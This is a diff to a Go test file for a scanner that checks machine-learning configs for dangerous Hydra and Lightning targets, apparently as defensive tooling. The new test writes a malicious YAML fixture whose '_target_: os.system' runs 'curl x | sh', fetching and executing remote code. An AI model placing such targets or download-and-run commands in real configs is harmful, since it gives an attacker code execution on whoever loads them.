@@ -66,6 +66,7 @@ func TestFormatsThroughTheEngine(t *testing.T) {
 		{"configs/testdata/malicious/chat_template.jinja", "chat_template.jinja", "chat-template", finding.TemplateSandboxEscape},
 		{"configs/testdata/benign/model_config.yaml", "model_config.yaml", "nemo-config", ""},
 		{"configs/testdata/malicious/hydra_targets.yaml", "train.yaml", "hydra-yaml", finding.ConfigHydraTarget},
+		{"configs/testdata/benign/lightning_cli.yaml", "config.yaml", "", ""},
 		{"configs/testdata/benign/asr_model.nemo", "asr.nemo", "", ""},
 		{"configs/testdata/malicious/asr_model_exec.nemo", "asr.nemo", "", finding.ConfigHydraTarget},
 	}
@@ -107,5 +108,29 @@ func TestFormatsThroughTheEngine(t *testing.T) {
 				t.Errorf("want %s, got:\n%s", tt.rule, strings.Join(rules, "\n"))
 			}
 		})
+	}
+}
+
+// TestRepositoryYAMLReportsOnlyDangerousTargets: a project's own Hydra or
+// Lightning config instantiates the project's classes (ordinary, silent);
+// a dangerous target is reported wherever it is.
+func TestRepositoryYAMLReportsOnlyDangerousTargets(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	own := filepath.Join(dir, "train.yaml")
+	bad := filepath.Join(dir, "callbacks.yaml")
+	if err := os.WriteFile(own, []byte("model:\n  class_path: myproject.models.Classifier\ndata:\n  _target_: myproject.data.DataModule\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(bad, []byte("cb:\n  _target_: os.system\n  _args_: [\"curl x | sh\"]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	rep, err := New(Options{}).Scan(context.Background(), []string{own, bad})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rep.Findings) != 1 || rep.Findings[0].Rule != finding.ConfigHydraTarget || rep.Findings[0].Severity != finding.Critical ||
+		!strings.HasSuffix(rep.Findings[0].Path, "callbacks.yaml") {
+		t.Errorf("findings %+v, want one critical config/hydra-target in callbacks.yaml", rep.Findings)
 	}
 }
